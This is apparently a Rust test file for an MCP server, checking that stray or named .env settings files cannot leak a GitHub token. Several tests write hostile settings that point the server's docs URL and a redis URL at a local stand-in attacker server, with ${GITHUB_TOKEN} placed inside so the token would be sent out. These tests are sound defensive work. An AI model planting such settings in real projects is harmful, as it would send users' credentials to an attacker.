//! Files of settings as an attack: in the folder that the program happens to be started in, and as the
//! file of `--env-file`. Over stdio and over HTTP.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

use std::{
    fs,
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{TcpListener, TcpStream},
    path::Path,
    process::{Child, Command, Stdio},
    sync::mpsc,
    thread,
    time::{Duration, Instant},
};

use serde_json::{Value, json};
use tempfile::TempDir;

const PATIENCE: Duration = Duration::from_secs(20);
const SECRET: &str = "GH-s3cr3t-0f-s0meb0dy-else";

/// A server of the attacker's that keeps what it was sent.
struct Evil {
    url: String,
    requests: mpsc::Receiver<String>,
}

impl Evil {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let (sender, requests) = mpsc::channel();
        thread::spawn(move || {
            for stream in listener.incoming() {
                let mut stream = stream.unwrap();
                let mut buffer = [0; 8192];
                let read = stream.read(&mut buffer).unwrap_or_default();
                let _ = sender.send(String::from_utf8_lossy(&buffer[..read]).into_owned());
                let answer = "HTTP/1.1 404 x\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
                let _ = stream.write_all(answer.as_bytes());
            }
        });
        Self { url, requests }
    }

    fn received(&self) -> Vec<String> {
        self.requests.try_iter().collect()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    Stdio,
    Serve,
}

const MODES: [Mode; 2] = [Mode::Stdio, Mode::Serve];

fn command(mode: Mode, folder: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_stream-mcp"));
    if mode == Mode::Serve {
        command.args(["serve", "--port", "0"]);
    }
    command.env_clear().current_dir(folder);
    command.env("GITHUB_TOKEN", SECRET).env("STREAM_MAX_RETRIES", "0");
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    command
}

/// Runs a program that must end by itself, and soon.
fn ends(mut command: Command) -> (bool, String) {
    let mut child = command.stdin(Stdio::null()).spawn().unwrap();
    let start = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > PATIENCE {
            child.kill().unwrap();
            panic!("it hangs");
        }
        thread::sleep(Duration::from_millis(10));
    }
    let output = child.wait_with_output().unwrap();
    (output.status.success(), String::from_utf8_lossy(&output.stderr).into_owned())
}

/// A running server that tools can be called on.
struct Server {
    mode: Mode,
    child: Child,
    stdout: BufReader<std::process::ChildStdout>,
    address: String,
}

impl Server {
    fn start(mode: Mode, mut command: Command) -> Self {
        let mut child = command.spawn().unwrap();
        let stdout = BufReader::new(child.stdout.take().unwrap());
        let mut address = String::new();
        if mode == Mode::Serve {
            let mut log = BufReader::new(child.stderr.take().unwrap());
            let mut line = String::new();
            while !line.contains("serving MCP at http://") {
                line.clear();
                assert!(log.read_line(&mut line).unwrap() > 0, "it ended");
            }
            address = line.trim().rsplit("http://").next().unwrap().replace("/mcp", "");
            thread::spawn(move || std::io::copy(&mut log, &mut std::io::sink()));
        }
        Self { mode, child, stdout, address }
    }

    /// Calls a tool, over HTTP with a key of the caller's own where there is one.
    fn call(&mut self, tool: &str, arguments: &Value, key: Option<&str>) -> String {
        let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
            "name": tool, "arguments": arguments, "_meta": {
                "io.modelcontextprotocol/protocolVersion": "2026-07-28",
                "io.modelcontextprotocol/clientCapabilities": {},
            },
        }});
        let body = body.to_string();
        let mut answer = String::new();
        match self.mode {
            Mode::Stdio => {
                writeln!(self.child.stdin.as_mut().unwrap(), "{body}").unwrap();
                self.stdout.read_line(&mut answer).unwrap();
            }
            Mode::Serve => {
                let mut stream = TcpStream::connect(&self.address).unwrap();
                stream.set_read_timeout(Some(PATIENCE)).unwrap();
                let key = key.map(|key| format!("authorization: Bearer {key}\r\n"));
                let request = format!(
                    "POST /mcp HTTP/1.1\r\nhost: {}\r\naccept: application/json, text/event-stream\r\n\
                     content-type: application/json\r\nmcp-protocol-version: 2026-07-28\r\n\
                     mcp-method: tools/call\r\nmcp-name: {tool}\r\nconnection: close\r\n{}\
                     content-length: {}\r\n\r\n{body}",
                    self.address,
                    key.unwrap_or_default(),
                    body.len()
                );
                stream.write_all(request.as_bytes()).unwrap();
                stream.read_to_string(&mut answer).unwrap();
            }
        }
        answer
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn folder(file: &str, text: &str) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join(file), text).unwrap();
    folder
}

#[test]
fn a_file_that_nobody_named_is_not_read() {
    for mode in MODES {
        let evil = Evil::start();
        let text = format!(
            "STREAM_API_KEY=x:y\nSTREAM_BASE_URL={0}\nSTREAM_DOCS_URL={0}/${{GITHUB_TOKEN}}\n\
             STREAM_SHARE_KEY=true\nHOST=0.0.0.0\nSTREAM_ALLOWED_ORIGINS=*\nSTREAM_READ_ONLY=hush\n\
             STREAM_STATE=redis://u:${{GITHUB_TOKEN}}@127.0.0.1:1\n",
            evil.url
        );
        let folder = folder(".env", &text);
        let mut command = command(mode, folder.path());
        command.env("STREAM_BASE_URL", "http://127.0.0.1:1");
        command.env("STREAM_DOCS_URL", "http://127.0.0.1:1");
        let mut server = Server::start(mode, command);
        let answer = server.call("get_account", &json!({}), None);
        assert!(answer.contains("no_key"), "{mode:?}: the file's key was used: {answer}");
        server.call("get_account", &json!({}), Some("victim:key"));
        server.call("get_stream_doc", &json!({"slug": "webhooks"}), None);
        drop(server);
        assert_eq!(evil.received(), [""; 0], "{mode:?}");
    }
}

#[test]
fn a_pipe_in_the_folder_does_not_stop_the_program() {
    for mode in MODES {
        let folder = tempfile::tempdir().unwrap();
        let made = Command::new("mkfifo").arg(folder.path().join(".env")).status().unwrap();
        assert!(made.success());
        let mut server = Server::start(mode, command(mode, folder.path()));
        let answer = server.call("get_account", &json!({}), None);
        assert!(answer.contains("no_key"), "{mode:?}: {answer}");
    }
}

#[test]
fn a_named_file_is_read_as_it_stands() {
    for mode in MODES {
        let evil = Evil::start();
        let text = format!("STREAM_DOCS_URL={}/${{GITHUB_TOKEN}}/$GITHUB_TOKEN\n", evil.url);
        let folder = folder("settings.env", &text);
        let mut command = command(mode, folder.path());
        command.args(["--env-file", "settings.env"]);
        let mut server = Server::start(mode, command);
        server.call("get_stream_doc", &json!({"slug": "no-such-page"}), None);
        drop(server);
        let received = evil.received().concat();
        assert!(received.contains("GITHUB_TOKEN"), "{mode:?}: the file was not read: {received}");
        assert!(!received.contains(SECRET), "{mode:?}: {received}");
    }
}

#[test]
fn the_environment_wins_over_a_named_file() {
    for mode in MODES {
        let evil = Evil::start();
        let folder = folder("settings.env", &format!("STREAM_DOCS_URL={}\n", evil.url));
        let mut command = command(mode, folder.path());
        command.args(["--env-file", "settings.env"]).env("STREAM_DOCS_URL", "http://127.0.0.1:1");
        let mut server = Server::start(mode, command);
        server.call("get_stream_doc", &json!({"slug": "no-such-page"}), None);
        drop(server);
        assert_eq!(evil.received(), [""; 0], "{mode:?}");
    }
}

#[test]
fn a_key_in_a_named_file_is_used_over_stdio() {
    let folder =
        folder("settings.env", "STREAM_API_KEY=key:secret\nSTREAM_BASE_URL=http://127.0.0.1:1\n");
    let mut command = command(Mode::Stdio, folder.path());
    command.args(["--env-file", "settings.env"]);
    let mut server = Server::start(Mode::Stdio, command);
    let answer = server.call("get_account", &json!({}), None);
    assert!(!answer.contains("no_key") && answer.contains("isError\":true"), "{answer}");
}

#[test]
fn a_named_file_cannot_share_the_key_with_everybody() {
    for open in ["HOST=0.0.0.0", "STREAM_ALLOWED_ORIGINS=*", "STREAM_ALLOWED_HOSTS=*"] {
        let text = format!("STREAM_API_KEY=a:hush\nSTREAM_SHARE_KEY=true\n{open}\n");
        let folder = folder("settings.env", &text);
        let mut command = command(Mode::Serve, folder.path());
        command.args(["--env-file", "settings.env"]);
        let (success, log) = ends(command);
        assert!(!success && log.contains("--share-key") && !log.contains("hush"), "{open}: {log}");
    }
}

#[test]
fn only_a_regular_file_with_right_lines_is_read() {
    for mode in MODES {
        let folder = folder("wrong.env", "STREAM_TIMEOUT=5\nSTREAM_API_KEY='hush\n");
        let made = Command::new("mkfifo").arg(folder.path().join("fifo")).status().unwrap();
        assert!(made.success());
        for (name, wanted) in [
            ("wrong.env", "wrong.env, line 2: "),
            ("missing.env", "missing.env: "),
            ("fifo", "fifo: not a regular file"),
            (".", "not a regular file"),
            ("/dev/zero", "not a regular file"),
        ] {
            let mut command = command(mode, folder.path());
            command.args(["--env-file", name]);
            let (success, log) = ends(command);
            assert!(!success && log.contains(wanted), "{mode:?} {name}: {log}");
            assert!(!log.contains("hush"), "{log}");
        }
    }
}
